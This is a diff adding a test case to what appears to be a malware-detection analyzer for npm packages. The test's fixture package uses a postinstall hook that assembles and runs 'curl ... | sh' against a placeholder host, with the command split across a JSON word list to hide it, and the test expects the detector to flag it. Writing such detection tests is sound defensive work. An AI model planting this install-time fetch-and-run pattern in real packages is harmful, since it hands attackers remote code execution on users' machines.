@@ -1237,6 +1237,21 @@ require('child_process').execSync(cfg.bootstrap.join(' '));`,
     });
     expect(r.evidence.map((f) => f.rule)).toContain('js.exec-download-pipe-shell');
   });
+  it("the same list of words loaded with require('./defaults.json')", () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'cfg-boot',
+        version: '1.0.0',
+        scripts: { postinstall: 'node setup.js' },
+      }),
+      'setup.js': `const { bootstrap } = require('./defaults.json');
+require('child_process').execSync(bootstrap.join(' '));`,
+      'defaults.json': JSON.stringify({
+        bootstrap: ['curl', '-s', 'http://mirror.cfg-boot.example/i.sh', '|', 'sh'],
+      }),
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exec-download-pipe-shell');
+  });
   it('quiet: the same sweeper whose YAML steps verify the npm cache', () => {
     const r = analyzeSource({
       'package.json': pkg,
